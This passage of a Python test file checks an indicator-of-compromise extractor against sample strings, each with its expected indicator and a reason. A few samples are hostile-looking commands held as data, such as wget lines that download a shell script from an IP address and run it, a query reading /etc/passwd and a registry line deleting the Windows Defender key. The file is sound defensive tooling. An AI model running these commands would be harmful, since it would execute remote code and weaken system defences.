"""Each type: what is recognised, and what only looks like it, with the reason."""

from hashlib import md5, sha1, sha256

import pytest

from tqimap.indicators import Options, find

SHA256 = "54bb47c91a5a4b9b0dbb1b3a0b5c7a50a46a0a4b4b0d4cf7e9e3e8a5d1f6c7b2"
MD5 = "7b5f7f0a3c9c84e2b2b4d1a3f66f5e01"
SHA1 = "0a4d55a8d778e5022fab701977c5d840bbc486d0"
IN_BYTES = ":".join(SHA1[i : i + 2] for i in range(0, 40, 2)).upper()
APART = IN_BYTES.replace(":", " ")

KEPT = [
    ("IP Address", "seen at 44.128.7.21, again", "44.128.7.21", "a full stop or comma ends it"),
    ("IP Address", "44.128.7.21:8080 open", "44.128.7.21", "the port is no part of it"),
    ("IP Address", "44.128.7.21-44.128.7.99", "44.128.7.99", "both ends of a range"),
    ("IP Address", "5.128.7.21-5.128.7.99", "5.128.7.99", "both ends of a range, and low"),
    ("IP Address", "5.128.7.21\u81f35.128.7.99", "5.128.7.99", "both ends of a range, and low"),
    ("IP Address", "44.128.7.21/tcp", "44.128.7.21", "a transport is no path"),
    ("IP Address", "44.128.7.21# ping", "44.128.7.21", "a sharp sign alone is no path: the prompt of a shell"),
    ("IP Address", "\u5730\u574044.128.7.21\u7684", "44.128.7.21", "scripts without blanks run on"),
    ("IP Address", "query: 44.128.7.21#53", "44.128.7.21", "a port as dig and named write it"),
    ("IP Address", "10.1.2.3.52345 > 44.128.7.21.443: Flags", "44.128.7.21", "a port as tcpdump writes it"),
    ("IP Address", "IP Address44.128.7.21", "44.128.7.21", "cells of a table run together"),
    ("IP Address", "tcp4 10.0.0.5.22 44.128.7.21.52345 ESTABLISHED", "44.128.7.21", "as netstat of BSD"),
    ("IP Address", "200 GET / - DIRECT/44.128.7.21 text/html", "44.128.7.21", "the way that a proxy took"),
    ("IP Address", "44.128.7.21\u00b9 and", "44.128.7.21", "the number of a footnote"),
    ("IP Address", "GET / - HIER_DIRECT/5.128.7.21 text/html", "5.128.7.21", "the way that a proxy took"),
    ("IP Address", "ORIGINAL_DST/5.128.7.21", "5.128.7.21", "the way that a proxy took"),
    ("IP Address", "C2/5.128.7.21", "5.128.7.21", "who has it, and no product"),
    ("IP Address", "src-5.128.7.21", "5.128.7.21", "who has it, and no product"),
    ("IP Address", "MALIP-44.128.7.21", "44.128.7.21", "no version begins so high"),
    ("IP Address", "quota-demo.com-44.128.7.21", "44.128.7.21", "no version begins so high"),
    ("IP Address", "ssh root@44.128.7.21 -p 2222", "44.128.7.21", "behind a user"),
    ("IP Address", "sip:100@44.128.7.21", "44.128.7.21", "behind a user"),
    ("IP Address", "postgres://bob:pw@44.128.7.21:5432/db", "44.128.7.21", "a database, no path on the web"),
    ("IP Address", "dig quota-demo.com @44.128.7.21", "44.128.7.21", "the server that is asked"),
    ("FQDN", "dig quota-demo.com @44.128.7.21", "quota-demo.com", "the name that is asked for"),
    ("IP Address", "44.128.7.20 @44.128.7.21", "44.128.7.20", "two, and no address of mail"),
    ("IP Address", "__44.128.7.21__", "44.128.7.21", "strong emphasis of Markdown"),
    ("IP Address", "44.128.7.21_443", "44.128.7.21", "a port behind a low line"),
    ("IP Address", "no space after a sentence.44.128.7.21 is it", "44.128.7.21", "the next sentence without a blank"),
    ("IP Address", "\u043f. 44.128.7.21", "44.128.7.21", "no section begins so high"),
    ("IP Address", "Version 4.2.8.15 bis 44.128.7.21", "44.128.7.21", "no version begins so high"),
    ("IP Address", "44.128.7.21_2026-03-11.log", "44.128.7.21", "in the name of a file"),
    ("IP Address", "ip_44.128.7.21", "44.128.7.21", "glued to its label"),
    ("IP Address", "ip.addr == 44.128.7.21 && tcp", "44.128.7.21", "compared in a filter"),
    ("IP Address", "ip.src==5.128.7.21", "5.128.7.21", "compared in a filter, and low"),
    ("IP Address", "id.orig_h==5.128.7.21", "5.128.7.21", "compared in a query"),
    ("IP Address", "7.44.128.7.20\n8.44.128.7.21\n", "44.128.7.20", "the number of its line before it"),
    ("IP Address", "7.44.128.7.20\n8.44.128.7.21\n", "44.128.7.21", "the number of its line before it"),
    ("IP Address", "| Fake update | 44.128.7.21 | the update 44.128.7.21", "44.128.7.21", "no version begins so high"),
    ("IP Address", "Version | Host\n--- | ---\nx | 44.128.7.21", "44.128.7.21", "a column of another line"),
    ("IP Address", r"\\44.128.7.21@8080\x\y.dll", "44.128.7.21", "a server of WebDAV"),
    ("IPv6 Address", "to 2D3A:0BAD:cafe:0:0:0:0:25.", "2d3a:bad:cafe::25", "written as RFC 5952 asks"),
    ("IPv6 Address", "[2d3a:bad:cafe::25]:443", "2d3a:bad:cafe::25", "in brackets with a port"),
    ("IPv6 Address", "The address is:2d3a:bad:cafe::25.", "2d3a:bad:cafe::25", "behind a colon"),
    ("IP Address", "<Value>44.128.7.20##comma##44.128.7.21</Value>", "44.128.7.20", "the comma of a list in CybOX"),
    ("IP Address", "<Value>44.128.7.20##comma##44.128.7.21</Value>", "44.128.7.21", "the comma of a list in CybOX"),
    ("CIDR Block", "block 44.128.7.0/24 now", "44.128.7.0/24", "a network"),
    ("CIDR Block", "2d3a:bad::/32", "2d3a:bad::/32", "a network of IPv6"),
    ("CIDR Block", r"44.128.0.0\/16", "44.128.0.0/16", "a slash escaped, as PHP writes JSON"),
    ("CIDR Block", "block 44.128.7.0/255.255.255.0.", "44.128.7.0/24", "its mask in full"),
    ("CIDR Block", "v=spf1 ip6:2d3a:bad::/32 -all", "2d3a:bad::/32", "RFC 7208, 5.6"),
    ("ASN", "announced by AS64999", "AS64999", "RFC 5396, asplain"),
    ("ASN", "ASN 4711 and more", "AS4711", "with the letter N"),
    ("ASN", '"asn": 64999,', "AS64999", "a field of JSON"),
    ("ASN", '{"asn":"64999"}', "AS64999", "a field of JSON, quoted"),
    ("FQDN", "in sel._domainkey.quota-demo.top now", "sel._domainkey.quota-demo.top", "a label for a service"),
    ("FQDN", "saw www.QuotaDemo.top now", "www.quotademo.top", "capitals in the name of a host"),
    ("ASN", "ASN: 64999", "AS64999", "behind a label"),
    ("ASN", "AS #64999", "AS64999", "a number sign behind a blank"),
    ("ASN", "Autonomous System 64999", "AS64999", "in words"),
    ("ASN", "autonomous system number: 64999", "AS64999", "in words"),
    ("ASN", "as64999", "AS64999", "in small letters"),
    ("ASN", "BGP AS 64999 and AS4200000001", "AS64999", "behind capitals"),
    ("ASN", "BGP AS 64999 and AS4200000001", "AS4200000001", "for private use (RFC 6996)"),
    ("ASN", "ASN 20473, as number 64999", "AS64999", "in words, in small letters"),
    ("ASN", "AS number 64999", "AS64999", "in words"),
    ("ASN", '"AS number": 64999,', "AS64999", "a field of JSON, in words"),
    ("FQDN", "C2/quota-demo.cc now", "quota-demo.cc", "no path"),
    ("FQDN", "a/b/quota-demo.com", "quota-demo.com", "hardly the end of a file's name"),
    ("IP Address", "5.128.7.21 Berlin\n5.128.7.22 Paris", "5.128.7.22", "addresses in one network are no sections"),
    ("FQDN", "log.in\nsign.in", "log.in", "alone in its line"),
    ("FQDN", "at safari.app now", "safari.app", "in small letters"),
    ("FQDN", "tel.no-quota.org", "tel.no-quota.org", "an abbreviation that begins a name"),
    ("SHA-1", f"sha1: {SHA1} bob@{SHA1}", SHA1, "no commit"),
    ("IP Address", "item 44.128.7.21", "44.128.7.21", "no section begins so high"),
    ("IP Address", "5.128.7.21 released", "5.128.7.21", "no release"),
    ("FQDN", "saw dns.google and cloud.ru today", "dns.google", "a word of fields before another end than theirs"),
    ("FQDN", "host.id", "host.id", "alone in its line"),
    ("FQDN", "saw evil.host.name today", "evil.host.name", "a field's words behind somebody's name"),
    ("FQDN", "host login.quota-demo.com.", "login.quota-demo.com", "a full stop ends it"),
    ("FQDN", "*.quota-demo.co.uk", "quota-demo.co.uk", "a wildcard"),
    ("FQDN", "{{quota.me}} and {{ quota.info }}", "quota.me", "fixed width in wikis"),
    ("FQDN", "QUOTA-DEMO.COM", "quota-demo.com", "names have no case"),
    ("FQDN", "by ec2-44-128-7-21.compute-1.amazonaws.com", "ec2-44-128-7-21.compute-1.amazonaws.com", "of a cloud"),
    ("FQDN", "t.ex.quota-demo.com and e.g.quota.demo.com", "quota-demo.com", "behind an abbreviation"),
    ("FQDN", "t.ex.quota-demo.com and e.g.quota.demo.com", "quota.demo.com", "behind an abbreviation"),
    ("FQDN", "buy at quota-demo.com!now", "quota-demo.com", "an exclamation"),
    ("FQDN", "typosquat `@quota-demo.com`", "quota-demo.com", "without anybody's name before it"),
    ("FQDN", "goes to quota-demo.top and", "quota-demo.top", "no edge"),
    ("FQDN", "e.top", "e.top", "alone, as in a list"),
    ("FQDN", r"\\quota-demo.com\share\x.js", "quota-demo.com", "the server of a path"),
    ("FQDN", r"\\quota-demo.com@SSL@443\DavWWWRoot\x.js", "quota-demo.com", "a server of WebDAV"),
    ("FQDN", "Subject: CN=*.quota-demo.com, O=x", "quota-demo.com", "the common name of a certificate"),
    ("FQDN", "\u53d6\u5f97\u4f8b.com\u3002", "\u53d6\u5f97\u4f8b.com", "letters of other languages"),
    ("FQDN", "quota.save", "quota.save", "alone in its line"),
    ("FQDN", "m\u00fcnchen-demo.de", "m\u00fcnchen-demo.de", "letters of other languages"),
    ("FQDN", "xn--mnchen-demo-thb.de", "xn--mnchen-demo-thb.de", "and their ASCII form"),
    ("FQDN", "\u8bbf\u95eequota-demo.com\u4e0b\u8f7d", "quota-demo.com", "prose without blanks around it"),
    ("FQDN", "\u57df\u540dquota-demo.com\u89e3\u6790\u5230evil.net", "quota-demo.com", "prose between two"),
    ("FQDN", "quota-demo.com\u3068evil.net", "evil.net", "prose between two"),
    ("FQDN", "\u4f8b\u3048.jp", "\u4f8b\u3048.jp", "letters of Japanese"),
    ("FQDN", "o\ufb03ce-demo.com \ufb01le-demo.com", "office-demo.com", "a ligature"),
    ("FQDN", "gb7ni5rgeexdcncj.onion", "gb7ni5rgeexdcncj.onion", "RFC 7686"),
    ("FQDN", "saw 80001.me and 2020.work", "80001.me", "a name of digits has no case"),
    ("FQDN", "quota-demo.com\u00b2 and", "quota-demo.com", "the number of a footnote"),
    ("FQDN", "saw files.quota-demo.in today", "files.quota-demo.in", "a word of programs before somebody's name"),
    ("FQDN", "saw user.quota.id today", "user.quota.id", "a word of programs before somebody's name"),
    ("FQDN", "the quota-demo.help page", "quota-demo.help", "no word of a program has a hyphen"),
    ("FQDN", "the mail.quota.md host", "mail.quota.md", "a server under a top-level domain of files"),
    ("FQDN", r'{"text": "C2:\nquota-demo.com\r\nb.com"}', "quota-demo.com", "behind the escape for a new line"),
    ("FQDN", "visit quota-demo.com.Then go", "quota-demo.com", "the next sentence without a blank"),
    ("FQDN", "quota-demo.com.It was down", "quota-demo.com", "the next sentence begins with a suffix"),
    ("FQDN", "quota-demo[.]com.It was down", "quota-demo.com", "the next sentence begins with a suffix"),
    ("FQDN", "the quota-demo.com-hosted page", "quota-demo.com", "a compound"),
    ("FQDN", "the quota-demo[.]com-based page", "quota-demo.com", "a compound"),
    ("FQDN", "vom quota-demo.com-Server", "quota-demo.com", "a compound"),
    ("FQDN", "/tmp and quota-demo.com/", "quota-demo.com", "a slash alone is no path"),
    ("FQDN", "saw quota-demo.rs today", "quota-demo.rs", "no name of a file in Rust has a hyphen"),
    ("FQDN", "the _quota-demo.top_ host and quota-demo.net_", "quota-demo.top", "emphasis"),
    ("FQDN", "_see quota-demo.top_, quota-demo.net_", "quota-demo.top", "emphasis that begins before"),
    ("FQDN", "quota{}demo{}com", "quota.demo.com", "brackets with nothing between them"),
    ("FQDN", "connect to quota.pl:443: refused", "quota.pl", "a port, and no line and column"),
    ("FQDN", "block quota-demo.com/* now", "quota-demo.com", "whatever is below it"),
    ("FQDN", "commonName=quota-demo.com/organizationName=x", "quota-demo.com", "the common name of a certificate"),
    ("FQDN", "subject=/C=US/CN=quota-demo.com/O=x", "quota-demo.com", "the common name of a certificate"),
    ("FQDN", r"hosts = [/quota-demo\.com/i, /x/]", "quota-demo.com", "a pattern of JavaScript, and how it is matched"),
    ("URL", "http://quota-demo.com/a?b=c#d", "http://quota-demo.com/a?b=c#d", "path, query, fragment"),
    ("URL", '<a xmlns="x" href="http://quota-demo.com/a">', "http://quota-demo.com/a", "beside a namespace"),
    ("URL", "join https://t . me/quota", "https://t.me/quota", "a name of one letter"),
    ("URL", "(see http://quota-demo.com/a_(b))", "http://quota-demo.com/a_(b)", "balanced brackets are its own"),
    ("URL", "[http://quota-demo.com/a](http://quota-demo.com/a)", "http://quota-demo.com/a", "Markdown"),
    ("URL", "<url>http://quota-demo.com/a</url>", "http://quota-demo.com/a", "XML"),
    ("URL", "'http://quota-demo.com/a','x'", "http://quota-demo.com/a", "quotes"),
    ("URL", "a,http://quota-demo.com/a,b", "http://quota-demo.com/a", "a field of CSV"),
    ("URL", "http://quota-demo.com/0,1518,druck.html", "http://quota-demo.com/0,1518,druck.html", "commas of its own"),
    ("URL", "http://quota-demo.com/a?b=1&amp;c=2", "http://quota-demo.com/a?b=1&c=2", "HTML's entity"),
    ("URL", "http://quota-demo.com/a&quot;http://b.com", "http://quota-demo.com/a", "a quote before the next one"),
    ("URL", "http://quota-demo.com/?b&copy=2&lt=3", "http://quota-demo.com/?b&copy=2&lt=3", "fields named as entities"),
    ("URL", "http://u:p@quota-demo.com:8080/", "http://u:p@quota-demo.com:8080/", "user and port"),
    ("URL", "http://[2d3a:bad:cafe::25]/a", "http://[2d3a:bad:cafe::25]/a", "an address of IPv6"),
    ("URL", "http://44.128.9.30/gate.php", "http://44.128.9.30/gate.php", "an address of IPv4"),
    ("URL", "URL=file://quota-demo.com/x", "file://quota-demo.com/x", "a share, as shortcuts name it"),
    ("URL", "quota-demo.com/gate.php", "http://quota-demo.com/gate.php", "written without a scheme"),
    ("URL", "quota-demo.com/a?u=http://b.com/c", "http://quota-demo.com/a?u=http://b.com/c", "holds another"),
    ("URL", "http://746653973/a", "http://746653973/a", "an address as one number"),
    ("URL", "**http://quota-demo.com/a**", "http://quota-demo.com/a", "emphasis"),
    ("URL", "{color:red}http://quota-demo.com/a{color}", "http://quota-demo.com/a", "a macro of Jira round it"),
    ("URL", "{quote}see http://quota-demo.com/a{quote}", "http://quota-demo.com/a", "a macro of Jira behind it"),
    ("URL", "{color:red}http://quota-demo.com/a{color}.", "http://quota-demo.com/a", "and a stop behind it"),
    ("URL", "block @quota-demo.com/a?b=1", "http://quota-demo.com/a?b=1", "no package has a query"),
    ("FQDN", "The domain npmjs.help mimics", "npmjs.help", "a word says that it is one"),
    ("FQDN", "\u0434\u043e\u043c\u0435\u043d \xabnpmjs.help\xbb", "npmjs.help", "a word says that it is one"),
    ("Email Address", "Email:bob@quota-demo.comPhone:+1", "bob@quota-demo.com", "the next field, without a blank"),
    ("URL", "quota-demo.com/x/44.128.7.21/a.zip", "http://quota-demo.com/x/44.128.7.21/a.zip", "an address in a path"),
    ("URL", "quota-demo.com/a?ip=44.128.7.21&b", "http://quota-demo.com/a?ip=44.128.7.21&b", "an address in a query"),
    ("URL", "quota-demo.com/a?e=bob@x.com&b", "http://quota-demo.com/a?e=bob@x.com&b", "an address in a query"),
    ("URL", "(quota-demo[.]com/#bob[@]x.com)", "http://quota-demo.com/#bob@x.com", "the same, defanged"),
    ("URL", "44.128.7.21/a?e=bob@x.com", "http://44.128.7.21/a?e=bob@x.com", "the same behind an address"),
    ("URL", "quota-demo.com/a?file=b.exe&x", "http://quota-demo.com/a?file=b.exe&x", "no label, but a field"),
    ("URL", "quota-demo.com/a?f=/etc/passwd", "http://quota-demo.com/a?f=/etc/passwd", "a path in a query"),
    ("URL", "quota-demo.com/x/00-1B-44-11-3A-B7", "http://quota-demo.com/x/00-1B-44-11-3A-B7", "no MAC address"),
    ("Email Address", "quota-demo.com/bob@x.com", "bob@x.com", "the next of a list"),
    ("IP Address", "44.128.7.21/44.128.7.22/44.128.7.23", "44.128.7.23", "the next of a list"),
    ("URL", "quota-demo.com/v4.3.2.1/x", "http://quota-demo.com/v4.3.2.1/x", "a version in a path"),
    ("URL", "quota-demo.com/x/net@v0.19.0.1", "http://quota-demo.com/x/net@v0.19.0.1", "the version of a package"),
    ("IPv6 Address", "the host 2606:4700::64: it", "2606:4700::64", "the colon of the sentence"),
    ("IPv6 Address", "\u304b\u30892606:4700::64\u3067\u3059", "2606:4700::64", "scripts without blanks run on"),
    ("CIDR Block", "44.128.0.0/16\u3067\u3059 2606:4700::/32\u306f", "2606:4700::/32", "scripts without blanks run on"),
    ("CIDR Block", "44.128.0.0/16\u3067\u3059", "44.128.0.0/16", "scripts without blanks run on"),
    ("IP Address", "quota-demo.com/44.128.7.21", "44.128.7.21", "the next of a list"),
    ("IP Address", "setup.py?ip=44.128.7.21", "44.128.7.21", "behind a file"),
    ("IP Address", "Traffic from Host Alpha 5.1.2.3", "5.1.2.3", "a small number, of which the line says what it is"),
    ("IP Address", "Bob <5.128.7.21> said", "5.128.7.21", "between angle brackets, and no comparison"),
    ("IP Address", "> 5.128.7.21", "5.128.7.21", "a quotation, and no comparison"),
    ("IP Address", "44.128.7.21 and later 44.128.7.22", "44.128.7.21", "a word of time, and not of versions"),
    ("URL", "http://quota-demo.com/a{b}", "http://quota-demo.com/a{b}", "braces of its own"),
    ("URL", "http://quota-demo.com/client_", "http://quota-demo.com/client_", "an underscore at its end"),
    ("URL", "http://\u2708quota.ws/a", "http://\u2708quota.ws/a", "a picture in a name"),
    ("URL", "http://quota-demo.com/a[blog post].", "http://quota-demo.com/a", "AsciiDoc"),
    ("URL", "http://quota-demo.com[blog]", "http://quota-demo.com", "AsciiDoc"),
    ("URL", "http://quota-demo.com/h[v1]/a.php", "http://quota-demo.com/h[v1]/a.php", "brackets of a path"),
    ("URL", "http://quota-demo.com/?a[]=1&b[c]", "http://quota-demo.com/?a[]=1&b[c]", "an array in a query"),
    ("URL", "wget http://44.128.9.30/a.sh;sh a.sh", "http://44.128.9.30/a.sh", "the next command of a shell"),
    ("URL", "wget http://44.128.9.30/a.sh&&chmod 7 a.sh", "http://44.128.9.30/a.sh", "the next command of a shell"),
    ("URL", "\u8bbf\u95eehttp://quota-demo.com/a\u3002\u7136\u540e", "http://quota-demo.com/a", "a full stop"),
    ("URL", "http://quota-demo.com/a\uff0c\u7136\u540e", "http://quota-demo.com/a", "a comma and prose without blanks"),
    ("URL", "http://quota-demo.com/a\u2014then", "http://quota-demo.com/a", "a dash"),
    ("Email Address", "Write to <Bob.X+y@Quota-Demo.com>!", "bob.x+y@quota-demo.com", "in angle brackets"),
    ("Email Address", "mailto:bob@quota-demo.com?subject=x", "bob@quota-demo.com", "a mail link"),
    ("Email Address", "user=bob@quota-demo.com", "bob@quota-demo.com", "the value of a key"),
    ("Email Address", "smtp.mailfrom=bob@quota-demo.com", "bob@quota-demo.com", "the value of a key with a dot"),
    ("Email Address", "SRS0=ab=cd=b.com=bob@quota-demo.com", "srs0=ab=cd=b.com=bob@quota-demo.com", "made by a relay"),
    ("Email Address", "Bob <bob at quota-demo.com>", "bob@quota-demo.com", "spelled, in angle brackets"),
    ("Email Address", r"From:\nbob@quota-demo.com", "bob@quota-demo.com", "behind the escape for a new line"),
    ("Email Address", '"bob smith"@quota-demo.com', '"bob smith"@quota-demo.com', "a quoted local part"),
    ("Email Address", "bob@[44.128.7.21]", "bob@[44.128.7.21]", "an address literal"),
    ("FQDN", "block *@quota-demo.com", "quota-demo.com", "all addresses of a host are none of them"),
    ("Email Address", "_bob@quota-demo.com_ is", "bob@quota-demo.com", "emphasis of Markdown"),
    ("Email Address", "_bob@quota-demo.com is", "_bob@quota-demo.com", "a low line of its own"),
    ("Email Address", "g\u00f3mez@quota-demo.com", "g\u00f3mez@quota-demo.com", "letters with accents (RFC 6531)"),
    ("Email Address", "\u0648bob@quota-demo.com", "bob@quota-demo.com", "a word of another script runs up to it"),
    ("MD5", f"md5={MD5};", MD5, "32 digits"),
    ("MD5", rf"\t{MD5}", MD5, "behind the escape of a tabulator that begins the text"),
    ("SHA-1", f"SHA1 Fingerprint={IN_BYTES}", SHA1, "byte by byte, as of a certificate"),
    ("SHA-1", f"Thumbprint: {IN_BYTES.lower()}", SHA1, "byte by byte, as of a certificate"),
    ("SHA-1", f"Fingerprint={IN_BYTES}", SHA1, "byte by byte, as of a certificate"),
    ("SHA-1", f"Thumbprint (SHA1): {APART}", SHA1, "blanks between its bytes"),
    ("SHA-1", f"fingerprint\n    {APART.lower()} is it", SHA1, "blanks between its bytes"),
    ("SHA-256", f"SHA256 Thumbprint: {' '.join([SHA256[i : i + 2] for i in range(0, 64, 2)])}", SHA256, "the same"),
    ("MD5", MD5.upper(), MD5, "in capitals"),
    ("MD5", f"0x{MD5}", MD5, "with a hexadecimal prefix"),
    ("MD5", f"x'{MD5}'", MD5, "as SQL writes bytes"),
    ("MD5", "MD5: 50020603652535783019961831881945", "50020603652535783019961831881945", "behind its label"),
    ("MD5", rf"\x{MD5}", MD5, "as PostgreSQL writes bytes"),
    ("SHA-1", f"sample_{SHA1}.bin", SHA1, "as the name of a file"),
    ("MD5", f"{MD5}.zip", MD5, "as the name of a file whose end is a top-level domain"),
    ("SHA-256", f"{SHA256}\t7 KB", SHA256, "64 digits"),
    ("SHA-256", f"image: quota-demo.com/a/b@sha256:{SHA256}", SHA256, "of the image of a container"),
    ("SHA-256", f"https://www.virustotal.com/gui/file/{SHA256}/detection", SHA256, "in a link to its analysis"),
    ("SHA-256", f"{SHA256[:40]}\n> {SHA256[40:]}", SHA256, "broken by a mail program"),
    ("SHA-384", "ab12" * 24, "ab12" * 24, "96 digits"),
    ("SHA-512", "ab12" * 32, "ab12" * 32, "128 digits"),
    ("Fuzzy Hash", "ssdeep: 1536:yB+A8bMtMeRlbIzvDqZ:N8yHDK1vcNk", "1536:yB+A8bMtMeRlbIzvDqZ:N8yHDK1vcNk", "ssdeep"),
    ("Fuzzy Hash", "T1" + "0A5F" * 17 + "B2", "T1" + "0A5F" * 17 + "B2", "TLSH"),
    ("Fuzzy Hash", "TLSH hash: " + "0a5f" * 17 + "b2", "0A5F" * 17 + "B2", "TLSH without its version"),
    ("Fuzzy Hash", '"tlsh":"T1' + "0a5f" * 17 + 'b2"', "T1" + "0A5F" * 17 + "B2", "TLSH in JSON"),
    ("CVE", "fixes cve-2021-44228.", "CVE-2021-44228", "in small letters"),
    ("CVE", "CVE\u20132021\u201344228", "CVE-2021-44228", "dashes of a word processor"),
    ("CVE", "CVE: 2021-44228", "CVE-2021-44228", "behind its label"),
    ("CVE", "#CVE20243094", "CVE-2024-3094", "a hashtag"),
    ("CVE", "tags: cve.2024.3094", "CVE-2024-3094", "a tag of a Sigma rule"),
    ("CVE", "exploit_CVE-2021-44228.py", "CVE-2021-44228", "in the name of a file"),
    ("File Path", r"in C:\Users\Bob Smith\AppData\x.exe it", r"C:\Users\Bob Smith\AppData\x.exe", "with a blank"),
    ("File Path", r"%APPDATA%\a\b.dll", r"%APPDATA%\a\b.dll", "with a variable"),
    ("File Path", r"\\server\share\a.txt", r"\\server\share\a.txt", "on a server"),
    ("File Path", "see\n\\\\server\\share\\a.txt", r"\\server\share\a.txt", "on a server, in a line of its own"),
    ("File Path", "1;\\\\server\\share\\a.txt;2", r"\\server\share\a.txt", "on a server, in a cell"),
    ("File Path", "runs /tmp/.x/kinsing once", "/tmp/.x/kinsing", "of Unix"),
    ("File Path", "\u6392\u67e5/tmp/.kinsing\u6587\u4ef6", "/tmp/.kinsing", "between letters of Chinese"),
    ("File Path", "in /home/\u6587/a.sh it", "/home/\u6587/a.sh", "letters of Chinese inside"),
    ("File Path", r'"path":"C:\\Users\\Public\\x.exe"', r"C:\Users\Public\x.exe", "backslashes doubled, as in JSON"),
    ("File Path", "see ~/.ssh/authorized_keys", "~/.ssh/authorized_keys", "below the home of a user"),
    ("File Path", "~/Library/LaunchAgents/x.plist", "~/Library/LaunchAgents/x.plist", "below the home of a user"),
    ("File Path", rf"C:\ProgramData\{MD5}.dll", rf"C:\ProgramData\{MD5}.dll", "a file called by its hash"),
    ("MD5", rf"C:\ProgramData\{MD5}.dll", MD5, "as the name of a file in a path"),
    ("SHA-256", f"/tmp/.x/{SHA256}", SHA256, "as the name of a file in a path"),
    ("File Path", r"The path is:\\quota-demo.com\a\b.exe", r"\\quota-demo.com\a\b.exe", "a server behind a colon"),
    ("File Path", r"path: \\quota-demo.com\a\b.exe", r"\\quota-demo.com\a\b.exe", "behind a colon and a blank"),
    ("File Path", r"run \\quota-demo.com@ssl\DavWWWRoot\ now", r"\\quota-demo.com@ssl\DavWWWRoot", "of WebDAV"),
    ("File Path", r"\\44.128.7.21\share\x.exe", r"\\44.128.7.21\share\x.exe", "on a server without a name"),
    ("IP Address", r"\\44.128.7.21\share\x.exe", "44.128.7.21", "the server of a path"),
    ("File Path", r"to C:\.x\y.exe", r"C:\.x\y.exe", "no escaped dot"),
    ("File Path", r"%APPDATA%\.x\y.exe", r"%APPDATA%\.x\y.exe", "no escaped dot"),
    ("File Path", "\u4fdd\u5b58\u81f3C:\\new\\x.exe\u3002", r"C:\new\x.exe", "Chinese before it, and a full stop"),
    ("File Path", "\u300cC:\\a\\x.dll\u300d\u3092\u914d\u7f6e", r"C:\a\x.dll", "in quotes of Japanese"),
    ("File Path", "C:\\a\\x.vbs\ub97c \uc0dd\uc131", r"C:\a\x.vbs", "Korean behind it"),
    ("File Path", "C:\\a\u6587.docx\u4ef6\\b.exe", "C:\\a\u6587.docx\u4ef6\\b.exe", "letters of Chinese inside"),
    ("Registry Key", r"HKEY_USERS\.DEFAULT\Software\x", r"HKEY_USERS\.DEFAULT\Software\x", "no escaped dot"),
    ("Registry Key", r"[HKLM\x\a] and [HKLM\x\b c]", r"HKLM\x\a", "one of two in brackets"),
    ("Registry Key", r"[HKLM\x\a] and [HKLM\x\b c]", r"HKLM\x\b c", "one of two in brackets"),
    ("Registry Key", r"[-HKLM\SOFTWARE\Windows Defender]", r"HKLM\SOFTWARE\Windows Defender", "of a .reg file"),
    ("Registry Key", r"HKLM\SOFTWARE\Microsoft\Windows NT\Run\x and", r"HKLM\SOFTWARE\Microsoft\Windows NT\Run\x", ""),
    ("File Path", r"edit C:\x\etc\hosts or b.ini", r"C:\x\etc\hosts", "a word of the sentence behind it"),
    ("File Path", r"from \Device\HarddiskVolume3\x\a.exe", r"\Device\HarddiskVolume3\x\a.exe", "the name of a disk"),
    ("Registry Key", r"HKEY_CURRENT_USER\\Software\\x", r"HKEY_CURRENT_USER\Software\x", "backslashes doubled"),
    ("Registry Key", r"HKEY_USERS\<USER SID>\Software\x", r"HKEY_USERS\<USER SID>\Software\x", "with a placeholder"),
    ("Registry Key", r"<HKCU>\Software\x", r"HKCU\Software\x", "its root in angle brackets"),
    ("Registry Key", r"<key>HKLM\SOFTWARE\x</key>", r"HKLM\SOFTWARE\x", "an element of XML"),
    ("Registry Key", "\u300cHKCU\\Run\\x\u300d\u3092\u4f5c\u6210\u3057\u3001C:", r"HKCU\Run\x", "in Japanese"),
    ("Registry Key", r"HKLM\Image File Options\notepad.exe", r"HKLM\Image File Options\notepad.exe", "no escape: \\n"),
    ("File Path", r"C:\Program Files\new\top.dll", r"C:\Program Files\new\top.dll", "no escapes: \\n, \\t"),
    ("Registry Key", r"at HKCU\x\Shell Folders now", r"HKCU\x\Shell Folders", "a known name with a blank"),
    ("Registry Key", r'"HKCU\x\My New Key" is', r"HKCU\x\My New Key", "quoted"),
    ("Registry Key", r"(HKCR\CLSID\{D012-5A9E}).", r"HKCR\CLSID\{D012-5A9E}", "an identifier in braces"),
    ("File Path", r"C:\a\{D012-5A9E}.", r"C:\a\{D012-5A9E}", "an identifier in braces"),
    ("Mutex", r"Mutex: Global\x7f", r"Global\x7f", "named by its label"),
    ("Mutex", r'Mutex: "Global\{8a2b-1111}"', r"Global\{8a2b-1111}", "an identifier in braces"),
    ("Mutex", "[mutex:name = 'Global\\x7f']", r"Global\x7f", "a pattern of STIX"),
    ("Filename", "[file:name = 'quota.exe']", "quota.exe", "a pattern of STIX"),
    ("Service Name", 'service named "WinUpdSvc"', "WinUpdSvc", "named by its label"),
    ("Service Name", "the service: WinUpdSvc", "WinUpdSvc", "named by its label"),
    ("URL", "see file:////quota-demo.com/share/a.exe", "file://quota-demo.com/share/a.exe", "a share"),
    ("String", f'ja3.hash; content:"{MD5}"; sid:1', MD5, "of a handshake, in a rule of Suricata"),
    ("Filename", 'the file "Invoice 7.exe"', "Invoice 7.exe", "named by its label"),
    ("Filename", "type,data\nfilename,Invoice of May.pdf.exe,x", "Invoice of May.pdf.exe", "a cell of CSV"),
    ("Filename", "| filename | Bob's plan.exe |", "Bob's plan.exe", "a cell of a table"),
    ("User-agent", "Mozilla/5.0 (X11; Linux) Gecko/1.0 asked", "Mozilla/5.0 (X11; Linux) Gecko/1.0", "of a browser"),
    ("MAC Address", "MAC:00:1b:44:11:3a:b7", "00:1b:44:11:3a:b7", "behind its label without a blank"),
    ("ASN", "\u304b\u3089AS64999\u306e", "AS64999", "scripts without blanks run on"),
    ("Registry Key", "\u5728HKCU\\Software\\x\u2192y", r"HKCU\Software\x", "signs that no key holds"),
    ("File Path", "\u2022/tmp/x.sh", "/tmp/x.sh", "behind a bullet"),
    ("CVE", "see CVE-2021-\r\n> 44228", "CVE-2021-44228", "broken behind its dash"),
    ("FQDN", "dkim=pass header.i=@quota-demo.com", "quota-demo.com", "what signed it, and nobody's address"),
    ("MAC Address", "00-1B-44-11-3A-B7", "00:1b:44:11:3a:b7", "IEEE 802"),
    ("MAC Address", "001b.4411.3ab7", "00:1b:44:11:3a:b7", "as Cisco writes it"),
    ("x509 Serial", "Serial Number: 0a:1b:2c:3d:4e:5f", "0a:1b:2c:3d:4e:5f", "named by its label"),
